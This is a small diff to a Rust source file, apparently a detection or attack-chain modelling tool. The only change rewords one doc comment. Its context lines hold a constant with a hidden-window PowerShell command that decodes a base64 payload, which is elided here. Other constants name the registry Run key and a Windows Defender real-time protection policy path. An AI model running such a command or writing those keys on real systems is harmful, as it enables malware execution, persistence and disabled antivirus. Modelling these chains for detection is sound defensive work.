@@ -45,7 +45,7 @@ const PASTED: &str = "powershell -w h -c \"$k='<base64:2400>';$b=[Convert]::From
 const RUN: &str = "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run";
 const POLICY: &str = "SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection";
 
-/// A process chain from the sign-in of the user to the last tool.
+/// A process chain from the user's sign-in to the last tool.
 const CHAIN: &[Item] = &[
     Item::Device,
     Item::User,
